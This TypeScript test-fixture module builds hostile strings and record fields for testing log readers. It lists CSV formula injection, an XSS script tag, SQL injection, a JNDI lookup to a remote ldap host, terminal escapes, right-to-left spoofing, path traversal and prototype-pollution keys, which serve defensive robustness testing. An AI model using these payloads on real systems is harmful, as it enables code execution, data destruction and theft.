// Owns the strings that callers can put into a record and that break naive readers: quotes, CSV formulas, terminal
// escapes, markup, direction marks, prototype keys, overlong text.

import type { RandomSource } from './random-source.ts';
import type { JsonObject } from './services/api.ts';

/** CloudTrail cuts user agents at 1 KB. */
const LONGEST_USER_AGENT = 1024;

export const HOSTILE_TEXTS = [
  `"quoted" and 'single' and \`tick\``,
  `=cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd|calc',
  '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
  '<script>alert(document.domain)</script>',
  'line one\nline two\r\nline three',
  'tab\tand,comma;semicolon|pipe',
  '🦀 rocket 🚀 family 👩‍👩‍👧‍👦',
  'user\u202Egnp.exe\u202C',
  '\u200Fשלום\u200E',
  '__proto__',
  'constructor.prototype',
  "'; drop table records; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a lookup that some log readers would follow
  '${jndi:ldap://example.com/a}',
  '%00%0a..%2f..%2f',
  '\\u0000\\"\\',
  'null',
  '﻿bom-first',
] as const;

/** Legal role session names, `[\w+=,.@-]{2,64}`, that mean something to somebody else. */
export const HOSTILE_SESSION_NAMES = [
  '=SUM@example.com',
  '-rf',
  '+1,2,3',
  '@everyone',
  '__proto__',
  'constructor',
  'a,b.c=d@e-f_g+h',
  '=HYPERLINK,evil@example.com',
  'null',
  'x'.repeat(64),
] as const;

export function hostileUserAgent(random: RandomSource): string {
  if (random.chance(0.2)) return `aws-sdk-go/1.45.1 ${'overlong '.repeat(200)}`.slice(0, LONGEST_USER_AGENT);
  return `Boto3/1.34 ${random.pick(HOSTILE_TEXTS)}`;
}

/** The parameters with keys of their own that name JavaScript's prototype machinery. */
export function withPrototypeKeys(parameters: JsonObject): JsonObject {
  const more =
    '"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"toString":"hostile"';
  return JSON.parse(`{${more},${JSON.stringify(parameters).slice(1)}`);
}
